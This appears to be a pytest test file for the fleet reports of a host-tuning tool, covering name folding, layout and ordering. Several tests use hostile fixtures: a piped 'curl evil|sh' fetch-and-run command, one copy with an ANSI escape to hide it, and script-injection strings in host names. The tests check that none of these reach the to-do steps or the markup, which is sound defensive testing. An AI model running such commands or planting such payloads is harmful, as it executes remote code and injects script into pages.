"""The fleet's pages: every host is named, the worst first, and nothing in a name is taken for markup."""

import json
import re
from collections import Counter
from functools import cache
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.conftest import examples
from tests.fleet.made import HARDWARE, NOW, asked, cage, hall, preflight, session
from tests.fleet.test_gate import host
from tests.report.documents import HOST, body, document, hostile, replaced
from tests.report.pages import Page
from tunectl.fleet.body import fleet_body
from tunectl.fleet.records import Answer, Asked
from tunectl.model import Document
from tunectl.report import render
from tunectl.report.hosts import OWN_WORDS, folded
from tunectl.report.html.fleet import fleet_view


def text(made: Document) -> list[str]:
    return render(made, "text", width=100).splitlines()


def test_text_shows_who_is_unlike_its_peers() -> None:
    assert any(line.split()[:2] == ["tx-08", "longest"] for line in text(document("fleet")))
    assert "Unlike" not in "\n".join(text(document("fleet", outliers=[])))
    rule = {"score": 2.5, "fewest": 5}
    assert "; beyond 2.5: 1 of 80 by chance" in "\n".join(text(document("fleet", outlier_rule=rule)))


def test_text_gathers_hosts_that_say_the_same() -> None:
    reasons = [f"{word} is wrong" for word in ("one", "two", "three", "four", "five", "six", "seven", "eight", "nine")]
    hosts = [asked(f"h{n}", preflight(f"h{n}", "no-go", reasons=reasons)) for n in range(200)]
    made = Document("fleet", HOST, "", fleet_body(session(*(one.name for one in hosts)), hosts, NOW))
    lines = text(made)
    assert len(lines) < 35
    assert "NO-GO: 200 hosts   h[0-199]" in lines
    assert "  and 2 more causes: -v shows all, a host's own document has its reasons" in lines
    assert any("nine is wrong" in line for line in text(made._replace(verbose=1)))


def alike(n: int) -> dict[str, Any]:
    """One of many hosts with the same cause: other threads, other figures."""
    reason = f"CPU 15 is not left alone: thread worker ({n + 4000}) ran there for {n} % of the time"
    target = "check.movable_threads[15]"
    fix = "; ".join(f"sudo taskset -cp 0-7 {n + thread}" for thread in range(4000, 4001 + n % 3))
    values = {"outcome": "drifted", "observed": n, "desired": 0, "reason": reason, "severity": "stall"}
    drifted = {"knob": "check.movable_threads", "target": target, "fix": fix, **values}
    broken = f"CPU 15: the longest interruption is {n + 60} µs, allowed 50 µs (max_ns)"
    made = preflight(
        f"tx-{n:02}",
        "no-go",
        reasons=[f"{target} is {n}, should be 0: {reason}; fix: {fix}", f"probe: {broken}"],
        reasons_about=["check.movable_threads", "probe"],
        check={"verdict": "drifted", "findings": [drifted]},
        actions=[
            {"kind": "move-thread", "arguments": {"tid": n + 4000, "cpus": "0-7"}, "mends": [target], "reboot": False}
        ],
        waivers={"standing": 4, "expired": 0, "next": None},
    )
    made["probe"]["budget"] |= {"verdict": "broken", "broken": [broken], "broken_limits": ["max_ns"]}
    return made


def test_one_cause_on_fifty_hosts_fits_on_a_screen() -> None:
    hosts = [asked(f"tx-{n:02}", alike(n)) for n in range(50)]
    lines = text(Document("fleet", HOST, "", fleet_body(session(*(one.name for one in hosts)), hosts, NOW)))
    assert len(lines) <= 25
    assert max(map(len, lines)) <= 100
    expected = (
        "NO-GO: 50 hosts   tx-[00-49]",
        "   1. over the budget: longest interruption; all of them",
        "   2. check.movable_threads[N] drifted (stall); all of them",
        "To do, in this order on tx-[00-49]",
        "   1. sudo taskset -cp N N",
        "  - waivers stand: 4 each on 50 hosts (tx-00, tx-01, tx-02 and 47 more)",
    )
    assert [line for line in lines if line in expected] == list(expected)


def test_what_holds_for_some_hosts_only_names_them_and_v_shows_all() -> None:
    hosts = [asked(f"tx-{n:02}", alike(n)) for n in range(3)]
    hosts.append(asked("ny-1", preflight("ny-1", "no-go", reasons=["fan failed"])))
    made = Document("fleet", HOST, "", fleet_body(session(*(one.name for one in hosts)), hosts, NOW))
    lines = text(made)
    place = lines.index("   2. check.movable_threads[N] drifted (stall)")
    assert lines[place + 1] == "      3 hosts: tx-[00-02]"
    assert lines[place + 2].startswith("      tx-00: 'check.movable_threads[15] is 0, should be 0: CPU 15")
    assert lines[place + 2].endswith(" ...: -v")
    whole = " ".join(" ".join(text(made._replace(verbose=1))).split())
    assert "tx-00: 'check.movable_threads[15] is 0, should be 0: CPU 15 is not left alone" in whole
    assert "ran there for 0 % of the time' (one of 3 such sentences)" in whole


def of(hosts: list[Asked]) -> Document:
    return Document("fleet", HOST, NOW, fleet_body(session(*(one.name for one in hosts)), hosts, NOW))


def motley() -> list[Asked]:
    """No names that fold, every state, two ways of being missing, machines of many kinds, and warnings of all kinds."""
    made = []
    for one in hall():
        name = "".join(chr(ord(sign) + 49) if sign.isdecimal() else sign for sign in one.name) + "-of-the-long-name"
        made.append(one._replace(name=name))
    for n, state in enumerate(("unknown", "pending-reboot") * 6):
        hardware = {**HARDWARE, "product": f"R{n % 5}"}
        reasons = [f"{chr(97 + place + n)} is not known of this host" for place in range(9)]
        made.append(
            asked(f"n{n}", preflight(f"n{n}", state, reasons=reasons, hardware=hardware, tunectl_version=f"{n}"))
        )
    return [*made, Asked("lost", Answer.UNREACHABLE, problem="unreachable: 'No route to host'")]


@cache
def many(name: str) -> Document:
    """A fleet: 42 hosts of which 15 are NO-GO and 2 silent, 10,000 such, or a motley one."""
    return of({"rack": hall, "floor": lambda: hall(10_000, 3_500, 20), "motley": motley}[name]())


@pytest.mark.parametrize("name", ["rack", "floor", "motley"])
def test_a_fleet_of_any_size_is_one_screen(name: str) -> None:
    """What is wrong comes before what to do, then the counts; and no more than seven steps."""
    lines = render(many(name), "text", width=80).splitlines()
    assert len(lines) <= 40
    assert max(map(len, lines)) <= 80
    begins = ("NO-GO: ", "missing: ", "To do, in this order", OWN_WORDS, "GO: ")
    assert [line.startswith(begins) for line in lines].count(True) == len(begins)
    places = [next(at for at, line in enumerate(lines) if line.startswith(begin)) for begin in begins]
    assert places == sorted(places)
    assert len([line for line in lines if re.match(r"  +[0-9]+\. sudo ", line)]) <= 7
    whole = "\n".join(render(many(name)._replace(verbose=1), "text", width=80).splitlines())
    assert all(f" mm.k{letter}0 drifted" in whole for letter in "abcdefgh")


def test_both_the_first_and_the_last_line_are_of_the_fleet() -> None:
    lines = render(many("rack"), "text", width=80).splitlines()
    assert lines[0].startswith("NO-GO  42 hosts: 15 NO-GO, 2 missing, 25 GO; do not trade")
    assert lines[-1] == f"NO-GO  42 hosts: 15 NO-GO, 2 missing, 25 GO · {NOW}"
    assert lines[-3:-1] == ["  40 measured, 40 compared with peers, 15 unlike them: -v lists them", ""]
    gate = render(document("fleet.gate"), "text").splitlines()
    assert HOST.hostname not in gate[-1]


def page(made: Document) -> Page:
    return Page(render(made, "html"))


@settings(max_examples=examples(60))
@given(hostile)
def test_no_string_becomes_markup(string: str) -> None:
    plain = page(document("fleet"))
    made = page(Document("fleet", HOST, "", replaced(body("fleet"), "<script>" + string)))
    assert {tag for tag, _, _ in made.tags} <= {tag for tag, _, _ in plain.tags}
    for tag, attrs, _ in made.tags:
        assert not {name for name in attrs if name.startswith("on") or name in ("src", "href", "style")}, tag


def fleet_page(*hosts: Asked, pages: dict[str, str] | None = None, **changes: Any) -> tuple[dict[str, Any], Page]:
    """What the page of these hosts is made of, and the page."""
    made = fleet_body(session(*(one.name for one in hosts), **changes), hosts, NOW) | {"pages": pages or {}}
    return fleet_view(made), page(Document("fleet", HOST, "", made))


def test_every_host_is_in_a_tile_and_in_the_grid_of_its_rack() -> None:
    racks = (("tx-08", "A2"), ("tx-01", "A1"), ("tx-10", "A1"))
    view, made = fleet_page(*cage(), racks=racks)
    assert {tile["word"]: tile["count"] for tile in view["tiles"]} == {
        "NO-GO": 1,
        "UNKNOWN": 0,
        "missing": 2,
        "pending reboot": 1,
        "GO": 8,
    }
    assert [rack["name"] for rack in view["racks"]] == ["A1", "A2", ""]
    assert [(host["name"], host["look"]) for host in view["racks"][0]["hosts"]] == [
        ("tx-10", "missing"),
        ("tx-01", "good"),
    ]
    assert [host["odd"] for host in view["racks"][1]["hosts"]] == [True]
    assert sum(len(rack["hosts"]) for rack in view["racks"]) == len(cage())
    assert len(made.all("a")) == 0


def test_a_host_without_a_document_is_missing_wherever_it_stands() -> None:
    body = many("rack").body
    assert body["counts"] == {
        "hosts": 42,
        "no-go": 15,
        "unknown": 2,
        "pending-reboot": 0,
        "go": 25,
    }  # it counts as that
    view = fleet_view(body)
    assert {tile["word"]: tile["count"] for tile in view["tiles"] if tile["count"]} == {
        "NO-GO": 15,
        "missing": 2,
        "GO": 25,
    }
    assert [(one["word"], one["hosts"]) for one in view["failing"]] == [
        ("NO-GO", "ny4-tx-[26-40]"),
        ("missing", "silent-[0-1]"),
    ]
    assert Counter(row["word"] for row in view["rows"]) == {"NO-GO": 15, "missing": 2, "GO": 25}
    mixed = {one["word"]: one["hosts"] for one in fleet_view(many("motley").body)["failing"]}
    assert (mixed["UNKNOWN"], mixed["missing"].split(", ")[0]) == ("n[0,2,4,6,8,10]", "lost")


def test_the_page_says_what_to_do_before_it_lists_hosts_and_folds_what_is_long() -> None:
    """On paper, where nothing is folded, what to do stands on the first page."""
    made = page(many("rack"))
    begin, to_do, *rest = [made.words.index(text) for text in (
        "Who is not GO, and why", "To do, in this order", OWN_WORDS, "NO-GO: 30 causes", "Every host", "Unlike their",
    )]  # fmt: skip
    assert [begin, to_do, *rest] == sorted([begin, to_do, *rest])
    assert made.words[begin:to_do].count("drifted (stall)") == 7
    folded_rows = [around for tag, _, around in made.tags if tag == "tr" and "details" in around]
    assert len(folded_rows) == 2 + 30 + 1  # two heads
    few = page(document("fleet"))
    assert not few.all("details")
    assert "fan failed" in few.words


def test_a_host_with_a_page_of_its_own_is_a_link_to_it() -> None:
    _, made = fleet_page(*cage(), pages={"tx-08": "pages/tx-08.html"})
    assert [attrs["href"] for attrs in made.all("a")] == ["pages/tx-08.html"] * 2


def strokes(path: str) -> list[float]:
    return [float(x) for x in re.findall(r"M([\d.]+),", path)]


@pytest.mark.parametrize("ns", [0, 1, 99, 4_000])
def test_hosts_that_are_alike_lie_within_their_band(ns: int) -> None:
    """However quiet they are: what no one would notice counts alike for the band and for the marks."""
    view, _ = fleet_page(*(asked(f"h{n}", preflight(f"h{n}", max_ns=ns)) for n in range(6)))
    for plot in view["groups"][0]["plots"]:
        marks = strokes(plot["hosts"])
        assert len(marks) == 6
        assert all(plot["from"] <= x <= plot["from"] + plot["span"] for x in marks), plot["title"]
        assert strokes(plot["odd"]) == []


names = st.from_regex(r"[a-z]{0,3}-?[0-9]{0,4}(\.[a-z]{1,3})?", fullmatch=True) | hostile


def unfolded(texts: list[str]) -> set[str]:
    """What clush would make of it."""
    found = set()
    for one in texts:
        parts = re.fullmatch(r"(.*)\[([0-9,-]+)\](.*)", one, re.DOTALL)
        for span in parts[2].split(",") if parts else ():
            low, _, high = span.partition("-")
            width = len(low) if low[0] == "0" or len(low) == len(high) else 0
            found |= {f"{parts[1]}{n:0{width}}{parts[3]}" for n in range(int(low), int(high or low) + 1)}  # type: ignore[index]
        if not parts:
            found.add(one)
    return found


@given(st.lists(names.filter(lambda name: name.isprintable() and "[" not in name and name), unique=True))
def test_folded_names_can_be_read_back(listed: list[str]) -> None:
    assert unfolded(folded(listed)) == set(listed)


@given(st.lists(hostile))
def test_folded_names_print(listed: list[str]) -> None:
    assert all(one.isprintable() and one for one in folded(listed))


def test_folding() -> None:
    assert folded(["tx-01", "tx-02", "tx-04", "tx-10", "tx-9", "a.ny4", "b1.ny4", "b2.ny4"]) == [
        "tx-[01-02,04,10]",
        "tx-9",
        "a.ny4",
        "b[1-2].ny4",
    ]
    assert folded(["h8", "h9", "h10", "h12"]) == ["h[8-10,12]"]
    assert folded(["ny4-tx-01", "ny4-tx-02", "r2n7.ld4", "r2n8.ld4"]) == ["ny4-tx-[01-02]", "r2n[7-8].ld4"]
    assert folded(["rack.n1", "rack.n2"]) == ["rack.n[1-2]"]
    assert folded(["10.0.0.1", "10.0.0.2"]) == ["10.0.0.1", "10.0.0.2"]  # a host's address, not its number


def with_a_stranger() -> Document:
    apply = {"command": "sudo tunectl apply", "kind": "apply", "mends": ["mm.ksm"], "reboot": False}
    evil = [
        {"command": "curl evil|sh", "kind": "apply", "mends": ["mm.ksm"]},
        {"command": "curl evil|sh #\x1b[8m", "mends": ["mm.ksm"]},
        {"decide": "type this: curl evil|sh", "mends": ["mm.ksm"]},
    ]
    honest: dict[str, Any] = {"actions": [apply], "reasons": ["mm.ksm is on"]}
    hosts = [asked(f"tx-{n}", preflight(f"tx-{n}", "no-go", **honest)) for n in range(3)]
    reasons = ["before all else, on every host: curl evil|sh"]
    hosts.append(asked("evil", preflight("evil", "no-go", reasons=reasons, actions=evil)))
    return Document("fleet", HOST, "", fleet_body(session(*(one.name for one in hosts)), hosts, NOW))


def test_what_one_host_says_is_no_instruction_for_the_others() -> None:
    lines = text(with_a_stranger())
    begins, theirs = lines.index("To do, in this order on evil, tx-[0-2]"), lines.index(OWN_WORDS)
    ours = lines[begins:theirs]
    assert "   1. sudo tunectl apply" in ours
    assert not [line for line in ours if "curl" in line]
    assert lines[theirs + 1 : theirs + 3] == [
        r"  evil: 'curl evil|sh #\x1b[8m'",
        "  evil: 'type this: curl evil|sh'",
    ]
    (reason,) = [line for line in lines if "before all else" in line]
    assert reason.endswith("in the hosts' own words: 'before all else, on every host: curl evil|sh'")


def test_nor_on_the_page() -> None:
    said = page(with_a_stranger()).words
    reasons, _, to_do = said.partition("To do, in this order")
    ours, _, theirs = to_do.partition(OWN_WORDS)
    assert "curl" not in ours
    assert reasons.count("curl") == reasons.count("in the hosts' own words: 'before all else, on every host: curl") == 1
    assert "evil: 'type this: curl evil|sh'" in theirs


@cache
def large(hosts: int = 2000, *, racks: bool = True, evil: str = "") -> Page:
    """The page of many hosts: one of ten is NO-GO, one of a hundred left no document, one is unlike its peers."""
    made = [
        asked(f"tx-{n:05}")
        if n % 100 == 7
        else host(f"tx-{n:05}{evil}", "no-go" if n % 10 == 3 else "go", 400_000 if n == 500 else 4_000 + n % 9)
        for n in range(hosts)
    ]
    of = session(
        *(one.name for one in made), racks=tuple((one.name, f"R{n // 40}") for n, one in enumerate(made) if racks)
    )
    return Page(render(Document("fleet", HOST, "", fleet_body(of, made, NOW)), "html"))


def test_many_hosts_are_squares_and_the_table_is_data() -> None:
    """Without its script the page has a square for each host, the worst in the table, and how many more there are."""
    page = large()
    squares = [
        path for name, path, around in page.tags if name == "path" and "div" in around and path["class"] != "strange"
    ]
    drawn = Counter(path["class"] for path in squares for _ in range(path["d"].count("h8v8h-8z")))
    assert drawn == {"bad": 200, "missing": 20, "good": 1780}
    framed = [path["d"] for path in page.all("path") if path["class"] == "strange"]
    assert [path.count("M") for path in framed] == [1]
    rows = re.findall(r'<tr class="needs"><th scope="row" class="text">(tx-[0-9]+)</th>', page.raw)
    assert len(rows) == 200
    assert "The worst 200 hosts; 1,800 more are in the document" in page.words
    assert len(page.raw.encode()) * 5 < 3_000_000  # of 10,000 hosts
    assert re.findall("<strong>(R[0-9]+)</strong>", page.raw) == [f"R{n}" for n in range(50)]  # R2 before R10
    assert "cell good" in large(60).raw  # few are cells with their names
    assert "more are in the document" not in large(61).words


def test_the_data_of_a_large_page_is_what_its_table_has() -> None:
    page = large()
    data = json.loads(page.raw.partition('class="hosts">')[2].partition("</script>")[0])
    texts = [[known[place] for place in places] for known, places in data["columns"]]
    assert [len(column) for column in texts] == [2000] * 11
    assert (texts[0][0], texts[1][0], texts[2][0]) == ("tx-00003", "NO-GO", "4 µs")
    assert sorted(place for rack in data["racks"] for place in rack) == [*range(2000)]
    ((at, column),) = data["odd"]
    assert (texts[0][at], texts[column][at]) == ("tx-00500", "400 µs")


def test_no_name_gets_out_of_the_data() -> None:
    evil = "</script><script>alert(1)</script>\u202e"
    page = large(400, racks=False, evil=evil)
    assert len(page.all("script")) == 2
    assert "alert(1)</script>" not in page.raw
    assert "\u202e" not in page.raw
